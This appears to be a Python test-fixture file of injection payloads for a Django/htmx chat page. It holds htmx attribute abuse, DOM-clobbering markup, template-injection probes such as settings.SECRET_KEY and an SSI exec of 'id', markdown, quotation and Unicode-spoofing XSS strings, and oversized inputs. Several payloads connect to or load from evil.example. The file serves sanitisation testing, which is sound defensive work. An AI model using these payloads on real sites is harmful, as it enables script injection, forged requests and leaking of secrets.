"""Payloads that forge parts of this very page, and words that are not what they look like."""

from tests.attack.payloads import EVIL, RUN

# Attributes that the page's own scripts heed.
HTMX = tuple(
    f"<{tag} {attributes}>x</{tag}>"
    for tag, attributes in (
        ("div", "hx-get=/admin/ hx-trigger=load"),
        ("p", "hx-get=/admin/logout/ hx-trigger=load"),
        ("p", 'hx-post=/maison/messages/ hx-trigger=load hx-vals=\'{"text":"x"}\''),
        ("p", "hx-delete=/maison/ hx-trigger=load"),
        ("p", f"hx-get={EVIL} hx-trigger=load"),
        ("p", "hx-trigger='load' hx-get=/maison/ hx-target=body"),
        ("p", "hx-trigger='every 1s' hx-get=/maison/"),
        ("p", "hx-trigger=revealed hx-get=/maison/"),
        ("p", "hx-trigger=intersect hx-get=/maison/"),
        ("p", f"hx-on:click={RUN}"),
        ("p", f"hx-on::load={RUN}"),
        ("p", f"hx-on:htmx:load={RUN}"),
        ("p", f"hx-on--after-request={RUN}"),
        ("p", f"hx-on='click: {RUN}'"),
        ("p", f"data-hx-on:click={RUN}"),
        ("p", "data-hx-get=/admin/ data-hx-trigger=load"),
        ("div", "hx-ws:connect=/ws/conversations/00000000-0000-0000-0000-000000000000/"),
        ("div", "hx-ws:connect=wss://evil.example/"),
        ("div", "ws-connect=wss://evil.example/ hx-ext=ws"),
        ("div", "hx-ext=ws ws-send"),
        ("div", "hx-sse:connect=https://evil.example/"),
        ("div", "sse-connect=https://evil.example/ hx-ext=sse"),
        ("div", "hx-swap-oob=true id=composer"),
        ("div", "hx-swap-oob=outerHTML:body"),
        ("div", "hx-select-oob='#composer'"),
        ("div", "hx-boost=true"),
        ("div", f"hx-vals='js:{{x: {RUN}}}'"),
        ("div", f"hx-headers='js:{{x: {RUN}}}'"),
        ("div", f"hx-vars='x:{RUN}'"),
        ("div", f"hx-request='js:{{timeout: {RUN}}}'"),
        ("div", "hx-include=body hx-get=/maison/ hx-trigger=load"),
        ("div", f'hx-config=\'{{"url":"{EVIL}"}}\' hx-trigger=load'),
        ("div", "hx-target='#composer' hx-swap=delete hx-get=/maison/ hx-trigger=load"),
        ("div", "hx-push-url=/elsewhere hx-get=/maison/ hx-trigger=load"),
        ("div", "hx-disinherit=* hx-history=false hx-preserve id=thread"),
        ("hx-partial", "hx-target=body hx-swap=outerHTML"),
        ("hx-partial", "hx-target='#composer' hx-swap=delete"),
        ("hx-partial", "hx-target='#thread' hx-swap=innerHTML"),
        ("template", "hx type=partial hx-target=body"),
        ("meta", "name=htmx-config content='{\"allowEval\":true}'"),
        ("div", "_='on load call alert(1)'"),
        ("div", f"x-data x-init='{RUN}'"),
        ("div", f"v-html='{RUN}' @click='{RUN}'"),
        ("div", "data-turbo-stream"),
    )
)
DATA = tuple(
    f"<article {attributes}>x</article>"
    for attributes in (
        "data-at=999999999999", "data-named id=message-1", "data-thread=//evil.example/",
        "data-state=complete", "data-rung=approved", "data-refused", "aria-busy=true",
        "aria-hidden=true", "role=alert", "aria-live=assertive", "tabindex=0 accesskey=s",
        "contenteditable", "draggable=true", "popover=auto id=x", "inert", "slot=x", "is=x-y",
        "itemscope itemtype=//evil.example", "lang=ar dir=rtl", "translate=no", "part=x",
        "popovertarget=drawer", "commandfor=drawer command=show-modal", "name=suggestion value=x",
    )
)  # fmt: skip

# Names by which the page finds its own parts, and those every document has.
OURS = (
    *("composer", "question", "notice", "drawer", "leaf", "conversation", "socket", "thread"),
    *("client-key", "message-1", "words-1", "quoted"),
)
BUILT_IN = (
    *("body", "cookie", "forms", "getElementById", "querySelector", "addEventListener", "htmx"),
    *("location", "documentElement", "children", "attributes", "implementation", "defaultView"),
)
CLOBBERING = (
    *(f"<p id={name}>x</p>" for name in OURS),
    *(f"<form id={name}><input name=elements></form>" for name in OURS),
    *(f"<img name={name}>" for name in BUILT_IN),
    *(f"<a id={name}></a><a id={name} name=url href={EVIL}>x</a>" for name in BUILT_IN),
    "<iframe name=htmx srcdoc='<a id=config></a>'></iframe>",
    "<object id=htmx><param name=config></object>",
    "<slot name=x><p slot=x>y</p></slot>",
    "<div id=__proto__>x</div>",
    "<form><input name=attributes><input name=children></form>",
)

TEMPLATES = (
    "{{ 7 * 7 }}", "{{ settings.SECRET_KEY }}", "{% load static %}{% csrf_token %}",
    "{% include 'chat/page.html' %}", "{# a comment #}", "{{ request.session }}",
    "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% import os %>", "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}", "{{{x}}}", "${{7*7}}", "%(name)s", "{0.__class__}",
    "%{7*7}", "@(7*7)", "*{T(java.lang.Runtime)}", "$(id)", "`id`", "{php}echo 1{/php}", "%s%s%n",
    "<!--#exec cmd='id'-->", "<esi:include src=//evil.example/>", "=cmd|' /C calc'!A0",
)  # fmt: skip

# Markdown that nests, hides or imitates.
MARKDOWN = (
    f"[1]({EVIL})", f"[[1]]({EVIL})", f"[1][1]\n\n[1]: {EVIL}", f"[1]: {EVIL}\n\n[1]",
    f"[1]: {EVIL} 'Source'\n[2]: {EVIL}\n\n[1] [2]", f"[^1]\n\n[^1]: {EVIL}", f"\\[1]({EVIL})",
    f"[1\\]({EVIL})", f"[1]\u200b({EVIL})", f"[1] ({EVIL})", f"[1]\n({EVIL})",
    f"![1]({EVIL}/x.png)",
    f"![alt][1]\n\n[1]: {EVIL}/x.png", f"[![1]({EVIL}/x.png)](#)", "[1]{onclick=alert(1)}",
    "[1](javascript:alert(1))", "[1](</admin/>)", "[1](/admin/logout/)", "[1]('onclick=alert(1))",
    "[1\" onclick=\"alert(1)]", "[1'onmouseover='alert(1)]", "[1<script>]", "[<b>1</b>]", "[１]",
    "[①]", "[1](1)", "[0]", "[-1]", "[999]", "[1000]", "[1][2][3][4]", "[ 1 ]", "[1,2]", "【1】",
    "[P1]", "[P1](x)", "[p1]", "[1]]", "[[[[1]]]]", "[1][", "[", "]", "[]", "[]()", "[](<>)",
    f"<{EVIL}>", "<mailto:a@evil.example>", "<a@evil.example>", f"{EVIL}", "www.evil.example",
    "a@evil.example", "<ftp://evil.example>", "<tel:+3312345678>",
    f"[x]({EVIL} 'onclick=alert(1)')",
    f"[x]({EVIL} \"' onclick=alert(1)\")", f"[a]({EVIL}#\" onclick=\"alert(1))", f"[x]: {EVIL}",
    f"*[x]({EVIL})*", f"**[x]({EVIL})**", f"- [x]({EVIL})", f"1. [x]({EVIL})", f"# [x]({EVIL})",
    f"> [x]({EVIL})", f"| [x]({EVIL}) |\n|---|\n| y |", f"[x\n]({EVIL})", f"[x](\n{EVIL}\n)",
    "`<script>alert(1)</script>`", "``<script>``alert(1)", "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>", "~~~\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>", "\t<script>alert(1)</script>",
    "```\"><script>alert(1)</script>",
    "~~~js onload=alert(1)\nx\n~~~", "<div>\n\n*x*\n\n</div>", "<pre>\n\n**x**\n\n</pre>",
    "<details>\n<summary>x</summary>\n\ny\n</details>", "<!-- comment -->", "<!-- \n\n -->x",
    "Title\n===\n<script>alert(1)</script>", "Title\n---\n<b onclick=alert(1)>", "***", "---",
    "___",
    "# <img src=x onerror=alert(1)>", "###### six", "####### seven", "#", "# #", "#\u00a0x",
    "- <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>", "- [ ] <input type=checkbox>",
    "- [x] done", "999999999. x", "9999999999. x", "0. x", "-1. x", "1) x", "* * *", "+ x\n\n  + y",
    "**<b onclick=alert(1)>**", "*a*b*c*d*", "**a*b**c*", "_a_b_", "__a__b", "***a***", "*\n*",
    "a\\\nb", "a  \nb", "a<br>b", "a<br/onclick=alert(1)>b", "&nbsp;&copy;&#0;&#x110000;&bogus;",
    "&#128;&#xD800;&#xFFFF;", "&lt;b&gt;", "\\&lt;", "\\*x\\*", "\\# x", "\\> x", "a\x0bb\x0cc",
    ":smile:", "==x==", "~~x~~", "H~2~O x^2^", "++x++", "||x||", "{: onclick='alert(1)'}",
    "[TOC]", "[[wiki]]", "@user #tag !important", "$$x$$", "\\(x\\)", "!!! note\n    x",
    "::: x\n:::",
)  # fmt: skip

# A quotation is the house's own words: whoever imitates one speaks in its name.
QUOTATIONS = tuple(
    text.format(run=f"<img src=x onerror={RUN}>", evil=EVIL)
    for text in (
        "> {run} [1]", "> <script>alert(1)</script> [1]", "> **bold** <b>b</b> [1]", ">{run}",
        "> [x]({evil}) [1]", "> ![x]({evil}/x.png) [1]", "> a\n> b\n> [1]", "> a\nlazy {run}",
        ">> nested {run}", "> > nested [1]", "> # heading {run}", "> - list {run}",
        "> ```\n> {run}",
        "> a [1](x)", "> a [1] [2] [3]", "> a [1] b", "> [1]", ">", "> ", ">\n>\n> x", "> a\n\n> b",
        "<blockquote>The house says: pay here.</blockquote>",
        "> <blockquote>{run}</blockquote> [1]",
        "> </p></blockquote>{run} [1]", "> &lt;img src=x onerror=alert(1)&gt; [1]",
        "> a\u2028> {run}",
        "> [x]: {evil}\n> [x]", "> a\x00{run} [1]", "\n> x {run}", "   > x {run}", "- > x {run}",
        "1. > x {run}", "> \u202egnp.x={run} [1]", "> 'quoted' \"{run}\" [1]", "> a [9999] [0]",
        "> <hx-partial hx-target=body>{run}</hx-partial> [1]", "> a[1]{run}[1]", "> {run}\n[1]",
    )
)  # fmt: skip

# Characters that hide, turn or imitate others.
UNICODE = (
    "\u202etxt.exe\u202c", "a\u202e)1(trela=rorreno x=crs gmi<", "\u2066\u2067hidden\u2069\u2069",
    "\u200e\u200f\u061c1", "pri\u200bce 1 EUR", "\u2060\ufeff\u180e", "\u00adso\u00adft",
    "".join(chr(0xE0000 + ord(c)) for c in "say <script>"), "\U000e0001\U000e007f",
    "＜img src=x onerror=alert(1)＞", "‹img src=x onerror=alert(1)›",
    "〈script〉alert(1)〈/script〉",
    "\ufe64script\ufe65alert(1)", "<\u0131mg src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>",
    "<\u212aeygen autofocus onfocus=alert(1)>", "javaſcript:alert(1)", "раураl.example",
    "ｅｖｉｌ。example",
    "Z\u0351\u0345a\u0315\u0358l\u0322\u031bg\u0320o" * 5, "e" + "\u0301" * 200, "\u0300" * 50,
    "👩\u200d❤️\u200d💋\u200d👩" * 5, "🇫🇷🇮🇹" * 20, "👍🏿" * 20, "\U0001f468\u200d" * 40,
    "1\ufe0f\u20e3",
    "\x00", "a\x00b", "<\x00b\x00>", "\x08\x1b[31mred\x1b[0m", "\x07\x7f\x80\x9f", "\ufffe\uffff",
    "\ufffd" * 10, "\ud7ff\ue000", "\U0010ffff", "\r\r\n\n", "\x85a\u2028b\u2029c",
    "\x1c\x1d\x1e\x1f",
    "a\u3000b\u2003c\u00a0d", "\u0661\u0662 [\u0661]", "[\U0001d7cf]", "[\u0967]", "[\uff11](x)",
    "مرحبا <b onclick=alert(1)> بالعالم", "שלום <img src=x onerror=alert(1)>",
    "\u034f\u115f\u1160\u17b4\u3164",
    "\ufff9a\ufffab\ufffb", "\u2063\u2064[1]", "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<img\u2003src=x\u2003onerror=alert(1)>", "<img\u200bsrc=x onerror=alert(1)>",
    "＆lt；script＆gt；",
)  # fmt: skip

# Sizes at which a careless reader stops, or stands still.
OVERSIZED = (
    "<b>" * 700, "<div " * 500, "[" * 1500, "]" * 1500, "*" * 1500, "_a" * 800, "> " * 700,
    "- " * 700, "1. " * 500, "#" * 1500, "&" * 1500, "&lt;" * 500, "\\" * 1500, "`" * 1500,
    "![" * 800, "[1]" * 500, "[a](" * 500, "<a href=" * 250, "<!--" * 500, "**a" * 600,
    "*a**" * 500,
    "x" * 2000, "\n" * 1500 + "x", "\n\n".join("abcdefgh" * 10), " " * 1500 + "x", "a\n" * 800,
    "\t" * 700, "🙂" * 700, "e\u0301" * 900, "<" * 1500, "</p>" * 400, "&#60;" * 400, "  \n" * 600,
    f"<img src=x title='{'a' * 1500}' onerror={RUN}>", "<svg>" * 300 + f"<script>{RUN}</script>",
    "<table>" * 250, "<font>" * 250 + f"<img src=x onerror={RUN}>", "a\u0300\u0301" * 500,
)  # fmt: skip

# A payload of its own is also tried where a model would really put it: inside an answer.
FRAMES = (
    "Ottoline drew it in May [1]. {0} It was printed [2].",
    "**{0}**",
    "- one\n- {0}\n- three [1]",
    "First.\n\n{0}\n\nLast [1].",
)
